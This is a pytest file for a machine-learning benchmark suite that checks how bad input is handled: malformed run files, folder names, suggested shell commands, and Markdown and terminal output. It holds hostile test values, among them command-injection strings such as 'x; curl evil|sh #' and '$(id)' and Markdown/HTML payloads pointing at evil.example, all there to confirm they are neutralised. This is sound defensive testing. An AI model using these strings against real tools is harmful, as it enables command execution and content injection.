"""Bad input is told in one line what is wrong and what to do, and nothing is written."""

import json
import re
from copy import deepcopy
from pathlib import Path
from time import process_time

import pytest
from markdown_it import MarkdownIt
from rich.console import Console

from benchmarks.__main__ import main
from benchmarks.commands.selfcheck import clone
from benchmarks.comparing.records import Judged
from benchmarks.comparing.saved import (
    RunError,
    compare_runs,
    confirm_command,
    environment_of,
    named,
    read,
)
from benchmarks.comparing.verdicts import Comparison, Status, Verdict, time_metric
from benchmarks.measuring import environments
from benchmarks.reporting import markdown, verdict_panel
from benchmarks.reporting.page import Compared, Report
from tests import hostile
from tests.hostile import EPOCH, STEP, row_of, small_run, write
from tests.test_command_lines import ROOT, run

INPUTS = [*hostile.RUNS, *hostile.TEXTS, *hostile.ARGUMENTS, *hostile.ARCHIVES, *hostile.OPTIONS]
INPUTS += hostile.JOURNALS


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("hostile")


@pytest.fixture(scope="module")
def told(folder):
    """What each input was told, by each command that it was given to."""
    found = {}
    for one in hostile.told(folder):
        found.setdefault(one.what, []).append(one)
    return found


@pytest.mark.slow
@pytest.mark.parametrize("what", INPUTS)
def test_bad_input_is_told_in_one_line(told, what):
    """A status above 0, one line with the value or the file, no traceback."""
    for one in told[what]:
        assert one.status in (2, 4), one
        assert len(one.lines) == 1, one.output
        assert re.match(r"(python -m benchmarks: )?error: .|ERROR: .", one.lines[0])
        assert "Traceback" not in one.output
        assert "\x1b" not in one.output


@pytest.mark.slow
def test_bad_input_leaves_nothing_behind(told, folder):
    """No report, no pinned run, no session."""
    written = {path.name for path in folder.glob("inputs/*")} - {"folder"}
    assert {name for name in written if not re.fullmatch(r"\w+\.json|data\d", name)} == set()
    assert [*folder.glob("copy/.benchmarks/sessions/*/journal.jsonl")] == []


@pytest.mark.slow
def test_the_table_has_a_line_for_each_input(told):
    table = hostile.table(one for every in told.values() for one in every)
    assert len(INPUTS) >= 30
    assert len(table.splitlines()) == 2 + sum(map(len, told.values()))


# Every field


def places(value, place=()):
    """The way to every value in a run, of a long list the first."""
    yield place
    steps = [*value] if isinstance(value, dict) else []
    if isinstance(value, list):
        steps = [*range(len(value))][: 3 if len(value) <= 3 else 1]
    for step in steps:
        yield from places(value[step], (*place, step))


def mutated(value, place, change):
    """The value with what is at a place in it taken out (`...`) or replaced."""
    if not place:
        return change
    step, *rest = place
    copied = value.copy()
    if change is ... and not rest:
        del copied[step]
    else:
        copied[step] = mutated(value[step], rest, change)
    return copied


def opened(path):
    """A saved run and an empty text, or None and why the file is none."""
    try:
        return read(path), ""
    except RunError as error:
        return None, str(error)


def shows(run, other):
    """Make all that a report and a comparison are made of."""
    judged = compare_runs(other, run, "other", 0.02)
    report = Report("run", run, {"other": Compared(other, judged)})
    report.markdown(), report.all_charts(), report.operations(), report.learned()
    report.memory(), report.tax(), report.certificate(), report.in_force()
    for one in report.learned():
        one.counts(), one.confusions()
    return judged


CHANGES = (..., None, "text", -7, 1e300, [], {}, [[]], [None])


@pytest.mark.parametrize("change", CHANGES, ids=map(str, CHANGES))
def test_any_field_is_refused_in_words_or_shown(tmp_path, change):
    """Whichever field of a saved run is taken out or replaced: one line, or all of a report."""
    run = small_run()
    run["benchmarks"] = [
        {key: row[key] for key in ("name", "extra_info", "stats")}
        for row in (row_of(run, EPOCH), row_of(run))
    ]
    run["machine_info"] = {"cpu": {"brand_raw": "Abacus 9", "count": 2}, "system": "Linux"}
    run["dataset"] |= {"pictures": {}, "samples": "iVBORw0K"}
    for row in run["benchmarks"]:
        row["extra_info"]["misread"] = (row["extra_info"]["misread"] or [])[:1]
    other, path = deepcopy(run), tmp_path / "run.json"
    for row in other["benchmarks"]:
        row["extra_info"]["session"] = "another"
    tried = [place for place in places(run) if place or change is not ...]
    refused = 0
    for place in tried:
        write(path, mutated(run, place, change))
        changed, said = opened(path)
        if changed is not None:
            shows(changed, other)
        else:
            refused += 1
            assert str(path) in said
            assert len(said.splitlines()) == 1
    assert 0 < refused < len(tried)


@pytest.mark.parametrize("value", [float("nan"), float("inf"), 0, -1])
def test_a_sample_that_is_no_time_makes_its_row_void(value, tmp_path):
    """The other rows are shown and compared; this one wins nothing."""
    run, path = small_run(), tmp_path / "run.json"
    hostile.sample(value)(run)
    write(path, run)
    judged = shows(read(path), small_run())
    [one] = [o for o in judged if o.comparison.test == STEP and o.comparison.metric.name == "time"]
    assert one.verdict.status is Status.NOT_COMPARABLE
    summary = Report("run", read(path), {}).markdown()
    assert "void: Keras is void" in summary


def test_rounds_that_one_file_of_a_session_lacks_are_not_paired():
    """A block that was cut in all rows of one file."""
    run, other = small_run(), small_run()
    for row in run["benchmarks"]:
        if "train_step" in row["name"]:
            del row["extra_info"]["blocks"][0], row["stats"]["data"][0]
    judged = compare_runs(other, run, "other", 0.02)
    steps = [one for one in judged if one.comparison.test == STEP]
    assert {one.verdict.status for one in steps} == {Status.NOT_COMPARABLE}
    assert steps[0].verdict.reason == "block 0 has 1 samples, 2 in other"


def test_unknown_fields_are_allowed(tmp_path):
    """Other versions of the suite may add some."""
    run, path = small_run(), tmp_path / "run.json"
    run["new"] = row_of(run)["new"] = row_of(run)["extra_info"]["new"] = {"a": [1]}
    write(path, run)
    assert read(path) == run


def many(count):
    """A run of so many rows, which are those of a small run at other batch sizes."""
    run = small_run()
    few, every = run["benchmarks"], []
    for number in range(count):
        row, size = few[number % len(few)], 1000 + number // len(few)
        name, trial = row["name"], row["extra_info"]["trial"]
        name, trial = (text.replace("-b128-", f"-b{size}-") for text in (name, trial))
        info = row["extra_info"] | {"batch_size": size, "trial": trial}
        every.append(row | {"name": name, "extra_info": info})
    return run | {"benchmarks": every}


def test_seconds_grow_no_faster_than_the_rows(tmp_path):
    """Ten thousand rows once took minutes: each was held against each other."""

    def seconds(count):
        path = tmp_path / f"{count}.json"
        write(path, many(count))
        began = process_time()
        assert main(["compare", str(path), str(path)]) == 0
        return process_time() - began

    seconds(50)  # what is done once
    few, more = seconds(100), seconds(1000)
    assert more < 20 * few


# Names

OWN = environment_of(small_run())


def test_runs_of_equal_names_are_all_shown(tmp_path, monkeypatch):
    """Files of one name in two folders, and one file twice: each has a name of its own."""
    monkeypatch.chdir(tmp_path)
    for folder in ("base", "head"):
        Path(folder).mkdir()
        write(Path(folder, "0001_x.json"), small_run())
    assert main(["report", "head/0001_x.json", "base/0001_x.json", "base/0001_x.json"]) == 0
    html = Path("report", "index.html").read_text(encoding="utf-8")
    figures = json.loads(re.search(r'id="figures" type="application/json">(.*)</script>', html)[1])
    (first, *_) = figures["chart-versions"]["data"]
    assert sorted(first["x"]) == [
        f"{OWN} (base/0001_x)",
        f"{OWN} (base/0001_x) (2)",
        f"{OWN} (head/0001_x)",
    ]
    assert html.count('<div class="chart" data-figure="chart-against-') == 2


def test_a_name_is_as_short_as_tells_runs_apart():
    run = small_run()
    assert [*named([(Path("a/b/0001_x.json"), run)])] == [f"{OWN} (0001_x)"]
    several = [(Path(path), run) for path in ("a/b/x.json", "c/b/x.json")]
    assert [*named(several)] == [f"{OWN} (a/b/x)", f"{OWN} (c/b/x)"]
    twice = [(Path("/a/b/x.json"), run)] * 2
    assert [*named(twice)] == [f"{OWN} (x)", f"{OWN} (x) (2)"]
    rooted = [(Path(path), run) for path in ("/x.json", "/b/x.json")]
    assert [*named(rooted)] == [f"{OWN} (/x)", f"{OWN} (b/x)"]


def test_a_baseline_called_like_this_environment_is_shown():
    """Both branches' newest environments have one name, in the pull-request workflow."""
    report = Report("newest", small_run(), {"newest": Compared(small_run(), [])})
    assert report.name == "newest (here)"
    (first, *_) = report.versions().data
    assert sorted(first["x"]) == ["newest", "newest (here)"]


@pytest.mark.slow
@pytest.mark.parametrize("given", ["..", ".", "bin/..", "../made", "bin/python"])
def test_a_baseline_is_called_like_its_folder(tmp_path, monkeypatch, given):
    """However it is given; its files never land among this environment's."""
    clone(tmp_path / "made")
    inside = tmp_path / "made" / ("bin" if given == ".." else "")
    monkeypatch.chdir(inside)
    assert environments.parse(given).name == "made"


@pytest.mark.parametrize("text", ["..", ".", "", "/", "a/../b", "x; rm -r", "n" * 999, "a\nb"])
def test_any_name_is_made_one_of_a_folder(text):
    name = environments.folder_name(text)
    assert re.fullmatch(r"[\w.-]{1,100}", name)
    assert name.strip(".")


# What is offered for pasting, printed, and posted


def suspect(implementation="pytorch_eager"):
    comparison = Comparison("train_step[mlp-b128-cpu]", implementation, "o", time_metric(0.02))
    return Judged(comparison, Verdict(Status.SUSPECT, reason="slower"))


@pytest.mark.parametrize("name", ["x; curl evil|sh #", "$(id)", "a b", "..", "../../x", "-rf", ""])
def test_a_name_that_is_none_is_no_part_of_a_command(name):
    assert confirm_command([suspect()], name) == (
        "pytest benchmarks -k train_step --implementation pytorch_eager --architecture mlp "
        "--baseline ENV"
    )


def test_a_command_is_quoted():
    command = confirm_command([suspect("x; rm -r y")], "py312-torch2.9")
    assert "--implementation 'x; rm -r y'" in command
    assert command.endswith("--baseline .tox/py312-torch2.9")


HOSTILE = [
    "![x](http://evil.example/x.png)",
    "[x](http://evil.example)",
    "[x][y]",
    "[x]: http://evil.example",
    "https://evil.example www.evil.example",
    '<img src="http://evil.example/x.png">',
    "&lt;script&gt;",
    "a | b \\| c",
    "back\\](http://evil.example)",
    "*a* _b_ ~~c~~ `d` $e$",
    "# heading",
    "> quotation",
    "- item",
    "line\n\n# next\r\n| a |",
    "@everyone and @org/team #12",
    "\x1b[31mred\x07",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_stays_text_in_markdown(text):
    """As GitHub shows it: no link, picture, HTML, mention or cell more than there was."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    cell = markdown.escape(text)
    for whole in ("\n".join(markdown.table("ab", [(cell, "x")])), cell, f"## {cell}"):
        inner = [t for token in reader.parse(whole) for t in token.children or ()]
        assert {t.type for t in inner} <= {"text", "text_special"}
        shown = "".join(t.content for t in inner)
        assert " ".join(text.split())[:2] in shown.replace("\u200b", "").replace("�", "\x1b")
        assert not re.search(r"@\w|://|www\.\w|#\d|[\x00-\x09\x0b-\x1f]", shown)
    tokens = [token.type for token in reader.parse(cell)]
    assert tokens == ["paragraph_open", "inline", "paragraph_close"]
    assert [t.type for t in reader.parse("\n".join(markdown.table("ab", [(cell, "x")])))].count(
        "td_open"
    ) == 2


def test_a_panel_prints_names_as_they_are(capsys):
    """Neither rich's markup nor a terminal's escapes take effect."""
    panel = verdict_panel.panel(
        [suspect("[red]x[/red]\x1b[31m")], "[blink]t\x1b[5m", ["[b]n\x1b]0;"]
    )
    Console(width=120, force_terminal=False).print(panel)
    printed = capsys.readouterr().out
    assert "\x1b" not in printed
    for text in ("[red]x[/red]", "[blink]t", "[b]n"):
        assert text in printed


# Warnings


WARNS = """
import warnings


def test_it():
    warnings.warn("planted", DeprecationWarning)
"""


@pytest.mark.slow
@pytest.mark.parametrize(("where", "status"), [("benchmarks", 0), ("tests", 1)])
def test_warnings_are_errors_in_our_tests_alone(folder, told, where, status):
    """A framework's warning must not end a user's measurement; in these tests it must be seen."""
    copy = folder / "copy"
    for name in ("tests", "tools"):
        (copy / name).mkdir(exist_ok=True)
    text = (ROOT / "tests" / "conftest.py").read_text(encoding="utf-8")
    [plugins] = re.findall("^pytest_plugins = .*\n", text, re.MULTILINE)
    (copy / "tests" / "conftest.py").write_text(text.replace(plugins, ""))
    (copy / "tests" / "__init__.py").write_text("")
    (copy / where / "test_warns.py").write_text(WARNS)
    (copy / "tools" / "parity_table.py").write_text("few_digits = None\n")
    ended = run(copy, f"{where}/test_warns.py", PYTEST_ADDOPTS="")
    assert ended.returncode == status, ended.stdout
    assert ("1 failed" if status else "1 passed, 1 warning") in ended.stdout
